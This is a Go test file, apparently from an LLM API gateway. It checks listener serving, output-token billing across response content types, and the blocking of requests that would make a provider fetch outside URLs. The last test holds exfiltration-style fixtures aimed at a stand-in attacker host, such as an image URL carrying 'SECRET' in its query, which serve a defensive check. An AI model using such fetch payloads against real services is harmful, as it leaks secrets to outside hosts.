	if err := short.Serve(context.Background(), open); err != nil {
		t.Error(err)
	}
	closed, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	_ = closed.Close()
	if err := l.Serve(context.Background(), closed); err != nil {
		t.Errorf("a listener that is closed: %v", err)
	}
}

// TestTheTypeOfAnAnswerChangesNoPrice: an answer is read for what it is, whatever its endpoint calls it.
func TestTheTypeOfAnAnswerChangesNoPrice(t *testing.T) {
	var answer strings.Builder
	for range 1000 {
		answer.WriteString("data: {\"choices\":[{\"delta\":{\"content\":\"" + strings.Repeat("word ", 30) + "\"}}]}\n\n")
	}
	figures := "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":10,\"completion_tokens\":30000}}\n\n"
	for _, end := range []string{"", figures} {
		for _, kind := range []string{"text/event-stream", "text/plain", "application/json", "application/octet-stream"} {
			at := endpoint(t, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", kind)
				_, _ = io.WriteString(w, answer.String()+end+"data: [DONE]\n\n")
			})
			r := serve(t, gateway.Config{Providers: providers(at)})
			_, _, _ = r.do("POST", "/openai/v1/chat/completions", `{"model":"mock-model","stream":true}`)
			cost := r.host.check(t, 1)
			if want := map[string]int64{"": 50_000, figures: 30_000}[end]; cost.OutTokens != want {
				t.Errorf("%s, figures %t: %+v", kind, end != "", cost)
			}
		}
	}
}

// TestNothingIsFetchedThroughTheGateway: what would have the provider fetch does not leave, neither to be answered nor
// to have its tokens counted, and the person is told what it was.
func TestNothingIsFetchedThroughTheGateway(t *testing.T) {
	asked := 0
	at := endpoint(t, func(_ http.ResponseWriter, r *http.Request) {
		if raw, _ := io.ReadAll(r.Body); len(raw) > 0 {
			asked++
		}
	})
	r := serve(t, gateway.Config{Providers: providers(at)})
	const block = `{"model":"mock-model","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?q=SECRET"}}]}]}`
	for _, c := range []struct{ method, path, body string }{
		{"POST", "/anthropic/v1/messages", block}, {"POST", "/anthropic/v1/messages/count_tokens", block},
		{"POST", "/gemini/v1beta/models/m:countTokens", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://attacker.example/"}}]}]}`},
		{"POST", "/openai/v1/chat/completions", `{"model":"mock-model","plugins":[{"id":"web"}]}`},
		{"GET", "/openai/v1/models", `{"url":"https://attacker.example/"}`},
	} {
		if status, body, _ := r.do(c.method, c.path, c.body); (status != 403) != (c.method == "GET") || asked != 0 {
			t.Errorf("%s %s: %d %s, %d went out", c.method, c.path, status, body, asked)
		}
	}
	r.stop()
	if err := r.lane.Err(); pawl.CodeOf(err) != pawl.CodeDenied {
		t.Errorf("the lane tells %v", err)
	}
	r.host.check(t, 0)
}
